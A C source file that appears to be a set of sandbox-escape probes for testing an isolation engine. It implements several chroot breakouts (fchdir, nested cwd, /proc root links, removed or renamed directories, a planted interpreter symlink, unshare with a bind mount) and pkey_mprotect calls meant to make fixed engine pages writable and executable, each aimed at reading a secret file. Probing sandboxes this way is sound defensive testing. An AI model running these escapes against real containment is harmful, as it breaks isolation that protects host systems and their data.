/* Ways out by a root directory of a process' own, and by calls that change protections with a key. */
#include "escape.h"

#define PAGE 4096
#define TEXT ((char *)0x7ffffa000000)
#define DATA ((char *)0x7ffffa010000)

static int got(const char *path) {
	struct stat st;
	show_file(path);
	return stat(path, &st) == 0 && !strcmp(path, SECRET);
}

/* below makes a root, and leaves it by a directory that was open before. */
static int fchdir_out(void) {
	mkdir("jail", 0755);
	int out = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("jail")) return 0;
	fchdir(out);
	for (int i = 0; i < 100; i++) chdir("..");
	chroot(".");
	return got(SECRET);
}

static int cwd_out(void) {
	mkdir("jail", 0755), mkdir("jail/deeper", 0755);
	chdir("jail");
	if (chroot("deeper")) return 0;
	for (int i = 0; i < 200; i++) chdir("..");
	chroot(".");
	return got(SECRET);
}

/* proc_root goes through /proc's links to roots of processes, our own, our parent's, and those of numbers that the host has. */
static int proc_root(void) {
	char path[700];
	const char *of[] = { "self", "1", getenv("VICTIM"), "thread-self", "self/task/1", "10"};
	const char *link[] = { "root", "cwd", "root/../..", "fd/0/../.."};
	for (unsigned i = 0; i < sizeof of / sizeof *of; i++)
		for (unsigned k = 0; k < sizeof link / sizeof *link; k++) {
			snprintf(path, sizeof path, "/proc/%s/%s%s", of[i], link[k], SECRET);
			show_file(path);
		}
	return 0;
}

static int removed(void) {
	mkdir("gone", 0755);
	int out = open(".", O_RDONLY | O_DIRECTORY);
	if (chroot("gone") || chdir("/")) return 0;
	unlinkat(out, "gone", AT_REMOVEDIR);
	for (int i = 0; i < 100; i++) chdir("..");
	mkdir("/again", 0755);
	show_file("../../../../../etc/hostname");
	return got(SECRET);
}

static int moved(void) {
	mkdir("a", 0755), mkdir("a/b", 0755), mkdir("a/b/c", 0755);
	int out = open(".", O_RDONLY | O_DIRECTORY);
	if (chroot("a/b") || chdir("/c")) return 0;
	renameat(out, "a/b/c", out, "c");
	for (int i = 0; i < 100; i++) chdir("..");
	return got(SECRET);
}

/* loader has the machine's kernel load a program whose interpreter lies below our root under the name of the host's. */
static int loader(void) {
	mkdir("sys", 0755), mkdir("sys/lib64", 0755);
	symlink(SECRET, "sys/lib64/ld-linux-x86-64.so.2");
	symlink("/lib64", "sys/link");
	int in = open("/bin/true", O_RDONLY), to = open("sys/true", O_CREAT | O_WRONLY, 0755);
	char b[65536];
	ssize_t n = read(in, b, sizeof b);
	if (to < 0 || (n > 0 && write(to, b, n) != n)) return 0;
	close(to);
	if (chroot("sys") || chdir("/")) return 0;
	char *argv[] = { "true", NULL};
	execv("/true", argv);
	return got(SECRET);
}

static int synthetic(void) {
	if (chroot("/proc/self") || chdir("/")) return 0;
	for (int i = 0; i < 100; i++) chdir("..");
	show_file("/root"), show_file("../../etc/hostname");
	return got(SECRET);
}

static int bind_by_clone(void) {
	return syscall(SYS_unshare, 0x00020000) == 0 && syscall(SYS_mount, "/", "jail", NULL, 4096 | 16384, NULL) == 0 && chroot("jail") == 0 && got(SECRET);
}

/* The engine's pages by pkey_mprotect, with and without a key, alone and in a range. */
static int protect(char *at, long size, long protection) {
	char *mine = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memset(mine, 0xcc, PAGE);
	for (long key = -1; key < 16; key++)
		if (syscall(SYS_pkey_mprotect, at, size, protection, key) == 0) {
			printf("protection of %p was changed\n", (void *)at);
			return 1;
		}
	return 0;
}
static int key_text(void) { return protect(TEXT, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC); }
static int key_data(void) { return protect(DATA, PAGE, PROT_NONE); }
static int key_range(void) { return protect((char *)0x7ffff8000000, 0x4000000, PROT_READ | PROT_WRITE | PROT_EXEC); }
static int key_wrap(void) { return protect(TEXT, -(long)TEXT, PROT_READ | PROT_WRITE | PROT_EXEC) || protect(TEXT - PAGE, ~0UL - 2 * PAGE, PROT_READ | PROT_WRITE); }
static int key_high(void) { return protect(TEXT, 1L << 32 | PAGE, PROT_READ | PROT_WRITE | PROT_EXEC); }

PROBES({"fchdir out of a root", fchdir_out}, {"a working directory out of a root", cwd_out}, {"roots in /proc", proc_root}, {"a root that is removed", removed},
	{"a folder that leaves a root", moved}, {"a loader below a root", loader}, {"a root in /proc", synthetic}, {"a mount below a root", bind_by_clone},
	{"the gate by a key", key_text}, {"the time page by a key", key_data}, {"a range by a key", key_range}, {"a range that wraps, by a key", key_wrap},
	{"a long range by a key", key_high})
